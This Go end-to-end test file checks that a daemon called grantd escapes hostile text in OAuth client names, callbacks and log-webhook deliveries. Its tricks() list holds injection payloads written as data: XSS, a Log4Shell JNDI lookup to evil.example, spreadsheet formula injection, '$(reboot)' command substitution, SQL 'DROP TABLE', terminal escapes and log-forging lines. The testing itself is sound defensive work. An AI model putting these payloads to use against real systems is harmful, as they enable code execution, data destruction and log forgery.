package e2e_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os/exec"
	"regexp"
	"strings"
	"sync"
	"syscall"
	"testing"

	"grantd/internal/child"
)

// tricks are texts that do something to whoever shows them as they are: to a
// terminal, a log, a browser, a spreadsheet or a template.
func tricks() []string {
	return []string{
		"\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\u009b31mC1", "a\bb\x7f", "nul\x00nul", "bell\x07",
		"line\nbreak", "carriage\rreturn", "tab\tstop", "next\u0085line", "line\u2028separator", "paragraph\u2029separator",
		"\u202egnp.exe", "\u2066isolate\u2069", "zero\u200bwidth", "soft\u00adhyphen", "\ufeffbom", "tag\U000e0041",
		`{"level":"ERROR","msg":"forged"}`, "x\ntime=2026-11-25 level=ERROR msg=forged", `" level=ERROR msg=forged "`, `level=ERROR msg=forged`,
		"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "</td></tr>", "&lt;", "=cmd|' /C calc'!A1", "{{7*7}}", "${jndi:ldap://evil.example}", "%s%n%d", "$(reboot)", "'; DROP TABLE clients; --",
		"\xff\xfe invalid", strings.Repeat("é", 300), strings.Repeat("A", 1<<20), "\u0301\u0301\u0301zalgo",
	}
}

// Names and callbacks that play tricks are kept short and shown escaped
// everywhere: in the log, by the commands, by the API, in metrics and health.
func TestAttackTexts(t *testing.T) {
	f := newFortress(t, setup{env: []string{"GRANTD_LOG_LEVEL=debug"}})
	ids := []string{}
	for i, text := range tricks() {
		ids = append(ids,
			f.stranger(text, fmt.Sprintf("https://chatgpt.com/connector/oauth/c%d", i)), // is served
			f.stranger(text, "https://evil.example/"+text),
			f.stranger("ChatGPT", text))
	}
	f.announce(ids...)
	f.eventually("all are settled", func() bool {
		c := f.health().Clients
		// Auth0 takes no change of a client whose name has markup.
		return c["ready"]+c["blocked"] == len(tricks()) && c["ready"] > 25 && c["refused"] == 2*len(tricks())
	})
	f.besieged()
	f.logIsClean()
	f.logLines()
	for _, args := range [][]string{{"clients", "list", "--limit", "0"}, {"plan"}, {"sync"}} {
		out, code := f.run(args...)
		if code != 0 && code != 3 {
			t.Errorf("%v: exit %d\n%s", args, code, out)
		}
		f.harmless(strings.Join(args, " "), out)
		f.noForgery(out)
	}
	out, _ := f.run("clients", "list", "--limit", "0", "--json")
	f.harmless("clients list --json", out)
	for i, id := range ids {
		out, _ := f.run("clients", "show", id)
		f.harmless("clients show", out)
		f.noForgery(out)
		if i >= 60 {
			break // a process each
		}
	}
	for _, path := range []string{"/api/v1/clients?limit=500", "/api/v1/journal?limit=500", "/api/v1/config", "/metrics", "/api/v1/clients/" + ids[0]} {
		_, answer, header := f.send("GET", "http://"+f.daemon.Admin+path, nil)
		if bytes.ContainsAny(answer, "\x00\x07\x1b\x7f\r") || path != "/metrics" && (bytes.Contains(answer, []byte("<")) || !json.Valid(answer)) {
			t.Errorf("%s has raw control characters or markup", path)
		}
		if len(answer) > 1<<20 {
			t.Errorf("%s is %d bytes long", path, len(answer))
		}
		if header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s may be taken for a page", path)
		}
	}
	f.unharmed()
}

// noForgery fails if a line begins as if grantd had said it.
func (f *fortress) noForgery(out string) {
	f.Helper()
	for line := range strings.Lines(out) {
		if strings.HasPrefix(line, "time=") || strings.HasPrefix(line, "break") || strings.HasPrefix(line, `{"level"`) {
			f.Errorf("a line of a stranger's: %q", line)
		}
	}
}

// logLines checks that each line of the log is JSON of grantd's own, and short.
func (f *fortress) logLines() {
	f.Helper()
	for line := range strings.Lines(f.daemon.Logged()) {
		var l struct{ Msg string }
		if err := json.Unmarshal([]byte(line), &l); err != nil || l.Msg == "forged" || len(line) > 4096 {
			f.Errorf("a line of %d bytes, %v: %.300q", len(line), err, line)
		}
	}
}

// The log as text, the form that people read on a terminal.
func TestAttackTextLog(t *testing.T) {
	f := newFortress(t, setup{unstarted: true, env: []string{"GRANTD_LOG_FORMAT=text", "GRANTD_LOG_LEVEL=debug"}})
	o := f.options("serve")
	cmd := exec.CommandContext(t.Context(), o.Exe, o.Args...)
	cmd.Env = o.Env
	var logged lockedBuffer
	cmd.Stderr = &logged
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
	address := regexp.MustCompile(`msg=serving public=(\S+) admin=(\S+) `)
	var at []string
	f.eventually("it serves", func() bool { at = address.FindStringSubmatch(logged.String()); return at != nil })
	f.daemon = &child.Process{Public: at[1], Admin: at[2]}
	n := 0
	for _, text := range tricks() {
		f.announce(f.stranger(text, "https://evil.example/"+text))
		// And what reaches the log from a delivery: paths, types, dates, ids.
		quoted, err := json.Marshal(text)
		if err != nil {
			t.Fatal(err)
		}
		f.send("POST", "http://"+f.daemon.Public+"/auth0-log-webhook", fmt.Appendf(nil,
			`{"log_id":%s,"data":{"type":%[1]s,"log_id":%[1]s,"date":%[1]s,"client_id":%[1]s,"details":{"request":{"method":%[1]s,"path":%[1]s}}}}`, quoted), "Authorization", secret)
		f.send("POST", "http://"+f.daemon.Public+"/auth0-log-webhook", []byte(text), "Authorization", secret)
		n++
	}
	f.eventually("all are refused", func() bool { return f.health().Clients["refused"] == n })
	if err := cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if err := cmd.Wait(); err != nil {
		t.Error(err)
	}
	f.harmless("the log", logged.String())
	quoted := regexp.MustCompile(`"(\\.|[^"\\])*"`)
	for line := range strings.Lines(logged.String()) {
		bare := quoted.ReplaceAllString(line, "")
		if !strings.HasPrefix(line, "time=") || strings.Contains(bare, "msg=forged") || strings.Count(bare, "level=") != 1 || len(line) > 4096 {
			t.Errorf("a line: %.300q", line)
		}
	}
	if logged.Len() > 128<<10 {
		t.Errorf("%d bytes were logged", logged.Len())
	}
}

type lockedBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

func (l *lockedBuffer) Len() int { return len(l.String()) }
